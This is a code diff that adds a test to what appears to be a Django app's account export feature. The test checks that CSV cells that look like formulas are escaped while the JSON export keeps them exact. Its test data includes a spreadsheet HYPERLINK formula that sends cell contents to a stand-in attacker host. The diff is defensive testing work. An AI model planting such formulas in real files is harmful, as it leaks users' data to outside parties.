@@ -186,3 +186,20 @@ def test_data_pages_require_login():
     client = Client()
     for url in ("/accounts/export/", "/accounts/delete/", "/accounts/reset/"):
         assert client.get(url).url.startswith("/accounts/login/")
+
+
+def test_csv_cells_that_look_like_formulas_are_text_and_json_keeps_them_exact(alice_client, alice):
+    question = make_question(title="Bias and variance")
+    make_history(user=alice, questions=[question])
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    Attempt.objects.filter(user=alice).update(answer=formula)
+    QuestionNote.objects.create(user=alice, question=question, text="- a list")
+
+    archive = _archive(alice_client.get("/accounts/export/"))
+
+    attempt_rows = list(csv.DictReader(io.StringIO(archive.read("attempts.csv").decode())))
+    note_rows = list(csv.DictReader(io.StringIO(archive.read("notes.csv").decode())))
+    assert attempt_rows[0]["answer"] == "'" + formula
+    assert note_rows[0]["text"] == "'- a list"
+    assert json.loads(archive.read("attempts.json"))[0]["answer"] == formula
+    assert json.loads(archive.read("notes.json"))[0]["text"] == "- a list"
